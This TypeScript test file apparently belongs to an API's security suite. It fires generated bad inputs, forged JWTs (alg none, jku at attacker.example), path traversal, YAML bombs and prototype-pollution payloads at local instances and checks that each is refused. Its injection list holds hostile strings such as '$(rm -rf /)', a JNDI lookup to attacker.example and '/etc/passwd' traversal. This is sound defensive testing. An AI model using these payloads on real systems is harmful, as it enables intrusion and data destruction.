/**
 * The probe's classes of input, kept in the suite: bad inputs generated from the OpenAPI document
 * (every operation's parameters and body properties, each broken against its own schema: wrong
 * types, out of range, too long or short, off-pattern injection strings, unknown keys, missing
 * keys, non-object bodies), JWT forgery, path traversal in config names, YAML bombs and oversized
 * YAML, deep JSON and __proto__ pollution, and rate-limit evasion. Sent to a development instance
 * (API keys, JSON files) and a production one (JWT, PostgreSQL), each with a valid credential so
 * the input reaches validation. Every answer must be a 4xx in the one error shape (YAML that
 * /configs/validate takes apart is a 200 saying isValid: false), never a 5xx, and nothing may be
 * let in; afterwards the stored data is unchanged and nothing is polluted.
 * The figures are written to reports/probe-figures.json.
 */
import { createHmac } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { InjectOptions, LightMyRequestResponse } from 'fastify';
import { ApiErrorBody, TokenResponse } from '@btc-research/contracts';
import { CONTROL_KEY, READ_KEY, TEST_SECRET, createHarness, devAuth, fill, redisUrlFor, RedisDb, strategyRecord, type Harness } from './test-support/harness.js';
import { VALID_YAML } from './test-support/fixtures.js';

const REDIS_URL = redisUrlFor(RedisDb.shared);

interface Figures {
  tried: number;
  answered4xx: number;
  /** /configs/validate answering 200 with isValid: false (it reports problems instead of refusing) */
  reportedInvalid: number;
  answered5xx: number;
  letIn: number;
  /** requests that threw instead of answering */
  crashes: number;
}
const figures = new Map<string, Figures>();

type Target = {
  name: 'development' | 'production';
  h: Harness;
  /** a credential with read and control */
  auth: Record<string, string>;
  /** a read-only credential (scope escalation), and none at all */
  others: Array<Record<string, string>>;
};
let targets: Target[];

beforeAll(async () => {
  const dev = await createHarness(REDIS_URL, { commandWaitMs: 0 });
  const prod = await createHarness(REDIS_URL, {
    storeKind: 'postgres',
    commandWaitMs: 0,
    auth: devAuth({ mode: 'jwt', isReadOpen: false, apiKeys: [{ key: CONTROL_KEY, scopes: ['read', 'control'] }, { key: READ_KEY, scopes: ['read'] }] }),
    operations: { isMetricsPublic: false, isDocsPublic: false },
  });
  for (const h of [dev, prod]) {
    await h.store.upsertStrategy(strategyRecord('probe-target'));
    await h.store.appendTrades('probe-target', [fill('probe-target', 1), fill('probe-target', 2)]);
  }
  const tokenOf = async (apiKey: string) => TokenResponse.parse((await prod.app.inject({ method: 'POST', url: '/api/v1/auth/token', payload: { apiKey } })).json()).accessToken;
  targets = [
    { name: 'development', h: dev, auth: { 'x-api-key': CONTROL_KEY }, others: [{ 'x-api-key': READ_KEY }, {}] },
    { name: 'production', h: prod, auth: { authorization: `Bearer ${await tokenOf(CONTROL_KEY)}` }, others: [{ authorization: `Bearer ${await tokenOf(READ_KEY)}` }, {}] },
  ];
});

afterAll(async () => {
  const total = [...figures.values()].reduce((a, f) => ({ tried: a.tried + f.tried, answered4xx: a.answered4xx + f.answered4xx, reportedInvalid: a.reportedInvalid + f.reportedInvalid, answered5xx: a.answered5xx + f.answered5xx, letIn: a.letIn + f.letIn, crashes: a.crashes + f.crashes }));
  const dir = path.resolve(import.meta.dirname, '..', '..', '..', 'reports');
  mkdirSync(dir, { recursive: true });
  writeFileSync(path.join(dir, 'probe-figures.json'), `${JSON.stringify({ total, byClass: Object.fromEntries(figures) }, null, 2)}\n`);
  for (const t of targets ?? []) await t.h.close();
});

/** Sends one bad input; it must be refused (4xx in the one error shape), or reported invalid by the validator. */
async function probe(kind: string, t: Target, opts: InjectOptions, allow: { reportedInvalid?: boolean } = {}): Promise<LightMyRequestResponse | null> {
  const f = figures.get(kind) ?? { tried: 0, answered4xx: 0, reportedInvalid: 0, answered5xx: 0, letIn: 0, crashes: 0 };
  figures.set(kind, f);
  f.tried += 1;
  let res: LightMyRequestResponse;
  try {
    res = await t.h.app.inject(opts);
  } catch (error) {
    f.crashes += 1;
    throw new Error(`${kind}: the request crashed`, { cause: error });
  }
  const what = `${kind} (${t.name}) ${JSON.stringify(opts.headers ?? {}).slice(0, 120)} ${String(opts.method ?? 'GET')} ${String(opts.url).slice(0, 150)} ${JSON.stringify(opts.payload ?? '').slice(0, 150)} → ${res.statusCode} ${res.body.slice(0, 200)}`;
  if (res.statusCode >= 500) {
    f.answered5xx += 1;
    throw new Error(`5xx: ${what}`);
  }
  if (res.statusCode >= 400) {
    f.answered4xx += 1;
    const body = ApiErrorBody.safeParse(res.json());
    if (!body.success || body.data.error.message.length === 0) throw new Error(`not in the one error shape: ${what}`);
    return res;
  }
  if (allow.reportedInvalid && res.statusCode === 200 && (res.json() as { isValid?: unknown }).isValid === false) {
    f.reportedInvalid += 1;
    return res;
  }
  f.letIn += 1;
  throw new Error(`let in: ${what}`);
}

// ---------------------------------------------------------------- generated from the OpenAPI document

type Schema = { $ref?: string; type?: string | string[]; pattern?: string; enum?: unknown[]; minimum?: number; maximum?: number; minLength?: number; maxLength?: number; minItems?: number; maxItems?: number; items?: Schema; properties?: Record<string, Schema>; required?: string[]; additionalProperties?: boolean; anyOf?: Schema[] };
type Doc = { paths: Record<string, Record<string, { operationId: string; parameters?: Array<{ in: string; name: string; required?: boolean; schema: Schema }>; requestBody?: { content: Record<string, { schema: Schema }> } }>>; components: { schemas: Record<string, Schema> } };

/** Injection strings of the probe: SQL, shell, templates, JNDI, markup, traversal, control characters, encodings. */
export const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE trades; --",
  '" OR ""="',
  '1; SELECT pg_sleep(5)',
  '1 UNION SELECT * FROM strategies',
  '$(rm -rf /)',
  '`id`',
  '{{7*7}}',
  '${jndi:ldap://attacker.example/a}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  'x\u0000y',
  'x\r\nSet-Cookie: a=1',
  '{"$gt":""}',
  '__proto__',
  '\u202eevil',
  '😀'.repeat(40),
];

function resolve(doc: Doc, s: Schema): Schema {
  return s.$ref ? resolve(doc, doc.components.schemas[s.$ref.split('/').pop()!]!) : s;
}

/** Values that break `schema` for sure: each is refused by it whatever the rest of the request is. */
function breaking(doc: Doc, raw: Schema, where: 'query' | 'path' | 'body'): unknown[] {
  const s = resolve(doc, raw);
  const type = Array.isArray(s.type) ? s.type[0] : s.type;
  const out: unknown[] = [];
  if (type === 'integer' || type === 'number') {
    // (no '0x10' or '': Number() reads them as 16 and 0, which may be in range)
    out.push('abc', 'NaN', 'Infinity', '1e309', '12abc', 'true');
    if (type === 'integer') out.push('1.5');
    if (s.minimum !== undefined) out.push(String(s.minimum - 1), String(s.minimum - 1e6));
    if (s.maximum !== undefined) out.push(String(s.maximum + 1), '9'.repeat(30));
    if (where === 'body') return [...out.filter((v) => v !== '' && !/^-?\d/.test(v as string)), ...(s.minimum !== undefined ? [s.minimum - 1] : []), ...(s.maximum !== undefined ? [s.maximum + 1] : []), ...(type === 'integer' ? [1.5] : []), true, null, [], {}];
    return out;
  }
  if (type === 'string') {
    if (s.enum) out.push('bogus', String(s.enum[0]).toUpperCase() === String(s.enum[0]) ? `${String(s.enum[0])}x` : String(s.enum[0]).toUpperCase(), ...INJECTIONS.slice(0, 6));
    if (s.pattern) {
      const re = new RegExp(s.pattern);
      out.push(...INJECTIONS.filter((v) => !re.test(v)), 'UPPER CASE', ' leading-space', 'a/b', '-starts-with-dash');
    }
    if (s.maxLength !== undefined) out.push('x'.repeat(s.maxLength + 1));
    if (s.minLength !== undefined && s.minLength > 0 && where !== 'path') out.push('');
    if (where === 'body') out.push(42, true, null, [], { nested: 'object' });
    return out.filter((v) => typeof v !== 'string' || !s.pattern || !new RegExp(s.pattern).test(v) || (s.maxLength !== undefined && v.length > s.maxLength) || s.enum !== undefined);
  }
  if (type === 'array') {
    out.push('not-an-array', 7, null, { a: 1 });
    if (s.items) for (const v of breaking(doc, s.items, 'body').slice(0, 5)) out.push([v]);
    if (s.maxItems !== undefined) out.push(Array.from({ length: s.maxItems + 1 }, () => 'read'));
    if (s.minItems !== undefined && s.minItems > 0) out.push([]);
    return out;
  }
  if (type === 'boolean') return where === 'body' ? ['true', 1, null, []] : ['maybe', '2'];
  return where === 'body' ? [Symbol.for('skip')] : [];
}

interface Generated {
  operation: string;
  opts: (auth: Record<string, string>) => InjectOptions;
}

function generate(doc: Doc): Generated[] {
  const out: Generated[] = [];
  const fill = (template: string, params: Record<string, string>) => template.replace(/\{(\w+)\}/g, (_m, k: string) => params[k] ?? '');
  for (const [template, ops] of Object.entries(doc.paths)) {
    for (const [method, op] of Object.entries(ops)) {
      // the event streams stay open when the input is valid; their parameters get their own cases
      if (template.startsWith('/api/v1/events')) continue;
      const pathParams = (op.parameters ?? []).filter((p) => p.in === 'path');
      const validPath = Object.fromEntries(pathParams.map((p) => [p.name, p.name === 'symbol' ? 'BTCUSDT' : 'probe-target']));
      const url = fill(template, validPath);
      const bodySchema = op.requestBody ? resolve(doc, op.requestBody.content['application/json']!.schema) : null;
      const validBody: Record<string, unknown> = op.operationId === 'startStrategy' ? { configName: 'probe.yaml', waitMs: 0 } : op.operationId === 'stopStrategy' ? { waitMs: 0 } : op.operationId === 'validateConfig' ? { yaml: VALID_YAML } : op.operationId === 'createToken' ? { apiKey: CONTROL_KEY } : { refreshToken: 'x'.repeat(20) };
      const request = (overrides: { url?: string; body?: unknown }) => (auth: Record<string, string>): InjectOptions => ({
        method: method.toUpperCase() as NonNullable<InjectOptions['method']>,
        url: overrides.url ?? url,
        headers: { ...auth, ...(overrides.body !== undefined ? { 'content-type': 'application/json' } : {}) },
        ...(overrides.body !== undefined ? { payload: JSON.stringify(overrides.body) } : {}),
      });
      for (const p of op.parameters ?? []) {
        for (const v of breaking(doc, p.schema, p.in === 'path' ? 'path' : 'query')) {
          if (typeof v !== 'string') continue;
          const u = p.in === 'path' ? fill(template, { ...validPath, [p.name]: encodeURIComponent(v) }) : `${url}?${encodeURIComponent(p.name)}=${encodeURIComponent(v)}`;
          out.push({ operation: op.operationId, opts: request({ url: u, ...(bodySchema ? { body: validBody } : {}) }) });
        }
      }
      if (!bodySchema) continue;
      for (const [name, prop] of Object.entries(bodySchema.properties ?? {})) {
        for (const v of breaking(doc, prop, 'body')) {
          if (v === Symbol.for('skip')) continue;
          out.push({ operation: op.operationId, opts: request({ body: { ...validBody, [name]: v } }) });
        }
      }
      if (bodySchema.additionalProperties === false) {
        for (const key of ['extra', 'isAdmin', 'constructor', '$where', 'scope']) out.push({ operation: op.operationId, opts: request({ body: { ...validBody, [key]: true } }) });
      }
      for (const name of bodySchema.required ?? []) {
        const { [name]: _dropped, ...rest } = validBody;
        out.push({ operation: op.operationId, opts: request({ body: rest }) });
      }
      for (const whole of [[], [validBody], 'a string', 42, true]) out.push({ operation: op.operationId, opts: request({ body: whole }) });
    }
  }
  return out;
}

describe('the probe\'s classes of input: every one refused with a 4xx, none a 5xx, nothing let in', () => {
  it('≥ 2,000 bad inputs generated from the OpenAPI document, on both instances, with a full, a read-only and no credential', async () => {
    let sent = 0;
    for (const t of targets) {
      const doc = (await t.h.app.inject({ url: '/docs/json', headers: t.auth })).json() as Doc;
      for (const c of generate(doc)) {
        await probe('openapi-generated', t, c.opts(t.auth));
        for (const other of t.others) await probe('openapi-generated-other-credentials', t, c.opts(other));
        sent += 1 + t.others.length;
      }
    }
    expect(sent).toBeGreaterThanOrEqual(3_000);
    expect(new Set(generate((await targets[0]!.h.app.inject({ url: '/docs/json' })).json() as Doc).map((c) => c.operation)).size).toBeGreaterThanOrEqual(15);
  }, 300_000);

  it('JWT forgery: alg none, another key, expired, no iss, exp or iat, too long a lifetime, other algorithms, tampering', async () => {
    const prod = targets[1]!;
    const b64 = (v: unknown) => Buffer.from(typeof v === 'string' ? v : JSON.stringify(v)).toString('base64url');
    const sign = (payload: object, secret: string, header: object = { alg: 'HS256', typ: 'JWT' }) => {
      const head = `${b64(header)}.${b64(payload)}`;
      return `${head}.${createHmac(header && (header as { alg?: string }).alg === 'HS512' ? 'sha512' : 'sha256', secret).update(head).digest('base64url')}`;
    };
    const now = Math.floor(Date.now() / 1000);
    const claims = { sub: 'key_x', scope: ['read', 'control'], typ: 'access', iss: 'btc-research-api', iat: now, exp: now + 600, jti: 'jti-probe-0001', fam: 'fam-probe-0001' };
    const { iss: _iss, ...noIss } = claims;
    const { exp: _exp, ...noExp } = claims;
    const { iat: _iat, ...noIat } = claims;
    const forged = [
      `${b64({ alg: 'none', typ: 'JWT' })}.${b64(claims)}.`,
      `${b64({ alg: 'None', typ: 'JWT' })}.${b64(claims)}.`,
      `${b64({ alg: 'none' })}.${b64(claims)}.${sign(claims, TEST_SECRET).split('.')[2]}`,
      sign(claims, 'another-secret-another-secret-another-secret'),
      sign(claims, ''),
      sign({ ...claims, iat: now - 7_200, exp: now - 3_600 }, TEST_SECRET),
      sign(noIss, TEST_SECRET),
      sign(noExp, TEST_SECRET),
      sign(noIat, TEST_SECRET),
      sign({ ...claims, iss: 'someone-else' }, TEST_SECRET),
      sign({ ...claims, exp: now + 86_400 * 365 }, TEST_SECRET),
      sign({ ...claims, typ: 'refresh' }, TEST_SECRET),
      sign({ ...claims, scope: ['admin'] }, TEST_SECRET),
      sign({ ...claims, sub: '' }, TEST_SECRET),
      sign(claims, TEST_SECRET, { alg: 'HS512', typ: 'JWT' }),
      sign(claims, TEST_SECRET, { alg: 'RS256', typ: 'JWT' }),
      // key-lookup tricks: a kid pointing at an empty file, a jku at the attacker's keys, signed to match
      sign(claims, '', { alg: 'HS256', typ: 'JWT', kid: '../../../../dev/null' }),
      sign(claims, 'attacker-secret-attacker-secret-attacker', { alg: 'HS256', typ: 'JWT', jku: 'https://attacker.example/jwks.json' }),
      `${sign(claims, TEST_SECRET).split('.').slice(0, 2).join('.')}.`,
      `${b64({ alg: 'HS256' })}.${b64({ ...claims, scope: ['read', 'control'] })}.${sign({ ...claims, scope: ['read'] }, TEST_SECRET).split('.')[2]}`,
      'a.b.c',
      `${'a'.repeat(3_000)}.${'b'.repeat(3_000)}.${'c'.repeat(3_000)}`,
    ];
    for (const [i, jwt] of forged.entries()) {
      for (const url of ['/api/v1/strategies/probe-target/trades', '/api/v1/strategies/active', '/metrics']) {
        const res = await probe('jwt-forgery', prod, { url, headers: { authorization: `Bearer ${jwt}` } });
        expect(res?.statusCode, `forged token #${i}`).toBe(401);
      }
      await probe('jwt-forgery', prod, { method: 'POST', url: '/api/v1/strategies/probe-target/stop', headers: { authorization: `Bearer ${jwt}` }, payload: { waitMs: 0 } });
      await probe('jwt-forgery', prod, { method: 'POST', url: '/api/v1/auth/refresh', payload: { refreshToken: jwt } });
    }
    // the development instance refuses them too (tokens are accepted there beside keys)
    for (const jwt of forged) await probe('jwt-forgery', targets[0]!, { url: '/api/v1/strategies/probe-target/trades', headers: { authorization: `Bearer ${jwt}` } });
  });

  it('path traversal in config names and strategy ids', async () => {
    const names = ['../../etc/passwd', '../../etc/passwd.yaml', '..%2F..%2Fetc%2Fpasswd.yaml', '/etc/passwd.yaml', 'config/../../x.yaml', '....//x.yaml', 'x.yaml\u0000.txt', '..\\..\\x.yaml', '%2e%2e/x.yaml', '.hidden.yaml', 'x.yml/..', '~/x.yaml', 'C:\\x.yaml'];
    for (const t of targets) {
      for (const configName of names) {
        const res = await probe('path-traversal', t, { method: 'POST', url: '/api/v1/strategies/start', headers: t.auth, payload: { configName, waitMs: 0 } });
        expect([400, 404], configName).toContain(res?.statusCode);
      }
      for (const id of ['..', '../..', '..%2F..%2Fetc%2Fpasswd', '%2e%2e%2f%2e%2e', 'x%00y', 'a/../../b', '.env']) {
        await probe('path-traversal', t, { url: `/api/v1/strategies/${id}/trades`, headers: t.auth });
      }
    }
  });

  it('YAML bombs (billion laughs, deep nesting, 5 MB) and oversized YAML', async () => {
    const laughs = ['lol0: &a0 "lol"', ...Array.from({ length: 9 }, (_, i) => `lol${i + 1}: &a${i + 1} [${Array.from({ length: 9 }, () => `*a${i}`).join(',')}]`)].join('\n');
    const bombs = [
      laughs,
      `${laughs}\nname: x\nindicators: *a9\n`,
      `${'- '.repeat(5_000)}x`,
      `${'['.repeat(10_000)}${']'.repeat(10_000)}`,
      `a: ${'{'.repeat(5_000)}${'}'.repeat(5_000)}`,
      `key: !!binary ${'A'.repeat(100_000)}`,
      'a: !!js/function "function(){ return process.exit(1) }"',
      `x: &x\n  - *x\n`,
      `${'a: 1\n'.repeat(60_000)}`,
    ];
    const huge = 'a: b\n'.repeat(1_050_000);
    for (const t of targets) {
      for (const yaml of bombs) {
        await probe('yaml-bomb', t, { method: 'POST', url: '/api/v1/configs/validate', headers: { ...t.auth, 'content-type': 'application/yaml' }, payload: yaml }, { reportedInvalid: true });
        await probe('yaml-bomb', t, { method: 'POST', url: '/api/v1/configs/validate', headers: t.auth, payload: { yaml } }, { reportedInvalid: true });
        await probe('yaml-bomb', t, { method: 'POST', url: '/api/v1/strategies/start', headers: t.auth, payload: { configYaml: yaml, waitMs: 0 } });
      }
      for (const opts of [
        { method: 'POST' as const, url: '/api/v1/configs/validate', headers: { ...t.auth, 'content-type': 'application/yaml' }, payload: huge },
        { method: 'POST' as const, url: '/api/v1/configs/validate', headers: t.auth, payload: { yaml: huge } },
        { method: 'POST' as const, url: '/api/v1/strategies/start', headers: t.auth, payload: { configYaml: huge } },
      ]) {
        const res = await probe('yaml-5mb', t, opts);
        expect(res?.statusCode).toBe(413);
      }
    }
  }, 120_000);

  it('deep JSON, __proto__ pollution, odd encodings and control characters in headers', async () => {
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    const deepObject = `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`;
    for (const t of targets) {
      for (const payload of [deep, deepObject, '{"__proto__":{"polluted":true},"configName":"x.yaml"}', '{"constructor":{"prototype":{"polluted":true}}}', '{"configName":"x.yaml","configName":"../y.yaml"}', '\ufeff{"configName":"x.yaml"}', '{"configName":"x.yaml"', 'null', '']) {
        await probe('json-abuse', t, { method: 'POST', url: '/api/v1/strategies/start', headers: { ...t.auth, 'content-type': 'application/json' }, payload });
      }
      for (const contentType of ['application/json; charset=utf-16', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'text/html', 'application/json, text/plain']) {
        await probe('json-abuse', t, { method: 'POST', url: '/api/v1/strategies/start', headers: { ...t.auth, 'content-type': contentType }, payload: 'configName=x.yaml' });
      }
    }
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
    expect((Object.prototype as { polluted?: unknown }).polluted).toBeUndefined();
  });

  it('rate-limit evasion: spoofed X-Forwarded-For and rotated wrong keys still count against the caller', async () => {
    const limited = await createHarness(REDIS_URL, { rateLimit: { max: 5, timeWindowMs: 60_000 } });
    try {
      const statuses: number[] = [];
      for (let i = 0; i < 12; i++) {
        const res = await limited.app.inject({ url: '/api/v1/strategies/active', remoteAddress: '10.9.9.9', headers: { 'x-forwarded-for': `203.0.113.${i}`, 'x-real-ip': `198.51.100.${i}`, forwarded: `for=192.0.2.${i}` } });
        statuses.push(res.statusCode);
      }
      expect(statuses.filter((s) => s === 429)).toHaveLength(7);
      const rotated: number[] = [];
      for (let i = 0; i < 8; i++) rotated.push((await limited.app.inject({ url: '/api/v1/strategies/active', remoteAddress: '10.9.9.10', headers: { 'x-api-key': `rotated-wrong-key-${i}-0123456789` } })).statusCode);
      expect(rotated).toEqual([401, 401, 401, 401, 401, 429, 429, 429]);
    } finally {
      await limited.close();
    }
  });

  it('leaves the stored data as it was, and both instances still serve', async () => {
    for (const t of targets) {
      expect((await t.h.store.listStrategies()).map((s) => [s.id, s.status])).toEqual([['probe-target', 'running']]);
      const trades = await t.h.app.inject({ url: '/api/v1/strategies/probe-target/trades', headers: t.auth });
      expect(trades.statusCode).toBe(200);
      expect(trades.json().items.map((x: { tradeId: string; price: string }) => [x.tradeId, x.price])).toEqual([['t-2', '40002'], ['t-1', '40001']]);
      expect((await t.h.app.inject({ url: '/readyz' })).statusCode).toBe(200);
    }
    const total = [...figures.values()].reduce((n, f) => n + f.tried, 0);
    expect(total).toBeGreaterThanOrEqual(3_300);
    for (const [kind, f] of figures) {
      expect(f.answered5xx, kind).toBe(0);
      expect(f.letIn, kind).toBe(0);
      expect(f.crashes, kind).toBe(0);
    }
  });
});
